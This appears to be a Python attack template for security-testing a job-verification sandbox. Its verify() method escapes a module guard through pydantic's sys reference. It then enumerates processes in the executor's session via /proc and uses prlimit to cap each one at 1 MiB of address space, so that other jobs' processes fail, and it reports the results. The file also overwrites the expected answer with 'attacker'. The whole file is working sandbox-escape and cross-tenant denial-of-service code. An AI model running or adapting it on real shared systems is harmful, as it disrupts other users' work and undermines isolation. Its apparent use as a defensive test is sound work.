# cross-job attack from verify(): escape the guard (pydantic.main's sys), then
# prlimit64 on every other process of the executor, the spawner included:
# 1 MiB of address space, so that every process it starts later (other jobs'
# template processes) fails. What each attempt gave is reported in this job's
# own result.
from pydantic import main
from verifleet.templates import BaseAnswer

_os = main.sys.modules["os"]
_io = main.sys.modules["io"]
_resource = main.sys.modules["importlib"].import_module("resource")


def _executor_processes():
    # As in sigqueue_from_verify.tpl: this session's processes, or every pid
    # of the executor's own pid namespace.
    own = _os.getpid()
    if _os.path.isdir("/proc/self"):
        session = _os.getsid(0)
        # Not the router (the spawner's parent), which must forward this
        # job's own answer: the report below is what the test reads.
        parent = _io.open("/proc/%d/stat" % _os.getppid()).read().rsplit(")", 1)[1].split()
        spared = {own, int(parent[1])}
        for name in _os.listdir("/proc"):
            if name.isdigit() and int(name) not in spared:
                try:
                    fields = _io.open("/proc/" + name + "/stat").read().rsplit(")", 1)[1].split()
                except Exception:
                    continue
                if int(fields[3]) == session:
                    yield int(name)
    else:
        yield from (pid for pid in range(3, 64) if pid != own)  # 1, 2: init, router


class Answer(BaseAnswer):
    value: str

    def model_post_init(self, context):
        self.correct = {"value": "attacker"}

    def verify(self) -> bool:
        seen = {}
        for pid in _executor_processes():
            try:
                _resource.prlimit(pid, _resource.RLIMIT_AS, (1 << 20, 1 << 20))
                outcome = "ok"
            except Exception as exc:
                outcome = type(exc).__name__
            seen["prlimit=" + outcome] = seen.get("prlimit=" + outcome, 0) + 1
        raise ValueError("ATTACK[" + " ".join(sorted(seen)) + "]")
